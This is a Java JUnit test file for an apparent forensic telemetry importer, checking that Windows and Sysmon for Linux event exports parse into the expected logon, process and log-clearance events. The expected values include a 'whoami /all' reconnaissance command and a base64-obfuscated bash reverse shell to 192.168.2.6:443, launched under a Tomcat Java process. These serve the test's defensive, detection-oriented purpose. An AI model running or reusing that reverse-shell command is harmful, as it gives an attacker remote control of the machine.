package trailhound.telemetry;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Predicate;
import org.junit.jupiter.api.Test;
import trailhound.schema.Event;
import trailhound.schema.Field;

/**
 * The real-world inputs of ../shared/datasets/cases/ (see its README.md): each case's right values,
 * as the README gives them. Each kind is also tested with a small input written in its own test.
 */
class CasesTest {
    private static Path file(String caseFolder, String name) {
        return Datasets.root().resolve("cases").resolve(caseFolder).resolve(name);
    }

    private record Read(ImportReport report, List<Event> events) {
        Map<String, Long> kinds() {
            Map<String, Long> kinds = new TreeMap<>();
            events.forEach(e -> kinds.merge(e.type() + "/" + e.operation(), 1L, Long::sum));
            return kinds;
        }

        Event only(Predicate<Event> which) {
            List<Event> found = events.stream().filter(which).toList();
            assertEquals(1, found.size(), "one such event: " + found);
            return found.getFirst();
        }
    }

    private static Read read(Path file, String endpoint) {
        List<Event> events = new ArrayList<>();
        ImportReport report = TelemetryImport.read(file, endpoint, events::add);
        return new Read(report, events);
    }

    private static Predicate<Event> eventId(String id) {
        return e -> id.equals(e.get(Field.EVENT_ID));
    }

    @Test
    void case02_localizedExport_fieldsFromSystemAndEventDataNeverRenderingInfo() {
        for (String language : List.of("de-DE", "en-US")) {
            Read r = read(file("02-localized-renderinginfo-channel", "security-" + language + "-eventviewer-export.xml"), null);
            Event logon = r.only(eventId("4624"));
            assertEquals("security/logon", logon.type() + "/" + logon.operation(), language);
            assertEquals("Security", logon.get(Field.CHANNEL), language);
            assertEquals("CORP\\mmuster", logon.get(Field.TARGET_USER));
            assertEquals("3", logon.get(Field.LOGON_TYPE));
            assertEquals("203.0.113.66", logon.get(Field.LOGON_SOURCE_IP));
            assertEquals("2025-10-24T09:10:00.500Z", Event.formatTime(logon.ts()));
            Event created = r.only(eventId("4688"));
            assertEquals("6700", created.get(Field.PID));
            assertEquals("2452", created.get(Field.PPID));
            assertEquals("C:\\Windows\\System32\\cmd.exe", created.get(Field.PROCESS_PATH));
            assertEquals("cmd.exe /c whoami /all", created.get(Field.COMMAND_LINE));
            assertEquals("C:\\Windows\\explorer.exe", created.get(Field.PARENT_PATH));
            assertEquals("CORP\\mmuster", created.get(Field.USER));
        }
        Read sysmon = read(file("02-localized-renderinginfo-channel", "sysmon-en-US-empty-rendered-channel.xml"), null);
        assertEquals(Map.of("process/start", 1L), sysmon.kinds());
    }

    @Test
    void case04_sysmonForLinux_mappedLikeSysmon_cutRecordKeptAndReported_syslogFormToo() {
        for (String name : List.of("linux-sysmon-events.xml", "linux-sysmon-syslog.log")) {
            Read r = read(file("04-sysmon-for-linux", name), null);
            Map<String, Long> byId = new TreeMap<>();
            r.events().forEach(e -> byId.merge(e.get(Field.EVENT_ID), 1L, Long::sum));
            assertEquals(Map.of("5", 50L, "1", 31L, "3", 6L, "11", 4L, "23", 2L), byId, name);
            assertEquals(Map.of("process/end", 50L, "process/start", 31L, "network/connect", 6L, "file/create", 4L,
                    "file/delete", 2L), r.kinds(), name);
            Event shell = r.only(e -> e.get(Field.COMMAND_LINE) != null && e.get(Field.COMMAND_LINE).contains("YmFzaCAtaSA"));
            assertEquals("process/start", shell.type() + "/" + shell.operation());
            assertEquals("/bin/bash", shell.get(Field.PROCESS_PATH));
            assertEquals("bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}",
                    shell.get(Field.COMMAND_LINE));
            assertEquals("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java", shell.get(Field.PARENT_PATH));
            assertEquals("tomcat", shell.get(Field.USER));
            assertEquals(List.of("lnx-web-01"), r.report().endpoints());
            assertEquals("linux", r.report().endpointOs().get("lnx-web-01"), name);
            assertTrue(r.report().warnings().stream().anyMatch(w -> w.contains("cut short (at line 8)")), r.report().warnings().toString());
        }
    }

    @Test
    void case05_oneBadEventCostsOnlyItself() {
        for (String name : List.of("wevtutil-200-events-line50-truncated.xml", "wevtutil-200-events-line50-raw-ampersand.xml")) {
            Read r = read(file("05-xml-one-bad-event-drops-rest", name), null);
            assertEquals(199, r.events().size(), name);
            assertEquals(List.of(50L), r.report().firstMalformedLines(), name);
            assertEquals(200, r.report().recordsRead(), name);
        }
    }

    @Test
    void case12_userDataSubject() {
        Read r = read(file("12-security-1102-userdata-user-missing", "security-1102-log-cleared.xml"), null);
        Event cleared = r.only(eventId("1102"));
        assertEquals("CORP\\analyst", cleared.get(Field.USER));
    }
}
